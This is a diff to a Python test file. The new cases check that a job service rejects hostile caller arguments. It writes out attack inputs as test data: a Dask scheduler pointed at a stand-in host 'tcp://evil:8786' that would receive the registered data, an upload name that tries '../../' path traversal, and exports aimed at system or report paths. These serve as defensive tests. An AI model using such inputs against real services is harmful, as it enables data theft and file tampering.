@@ -265,6 +265,8 @@ def test_a_caller_cannot_name_the_services_files(served: Served) -> None:
         ["verify", "/etc"],
         ["log", "export", "/tmp/leak.jsonl"],
         ["report", "list", "--output", str(served.home)],
+        # an export may write only into the request's outputs, never into the reports
+        ["report", "export", "reports/german-credit/v1", "reports/fake-system"],
     ):
         reply = _job(served, argv)
         assert reply.status_code == 200, reply.text
@@ -280,6 +282,10 @@ def test_a_caller_cannot_name_the_services_files(served: Served) -> None:
         served, ["run", "@in/1/audit.yaml", "--keys", "/tmp"], {"1/audit.yaml": spec}
     ).json()
     assert body["exit_code"] == 4 and "--keys is not accepted" in body["stderr"]
+    # a Dask scheduler of the caller's choosing would be sent the registered data
+    argv = ["run", "@in/1/audit.yaml", "--engine", "dask", "--scheduler", "tcp://evil:8786"]
+    body = _job(served, argv, {"1/audit.yaml": spec}).json()
+    assert body["exit_code"] == 4 and "--scheduler is not accepted" in body["stderr"]
     # upload names cannot climb out of the job folder
     reply = _job(served, ["report", "list"], {"../../evil.yaml": b"x"})
     assert reply.status_code == 400 and "not a plain relative path" in reply.json()["error"]
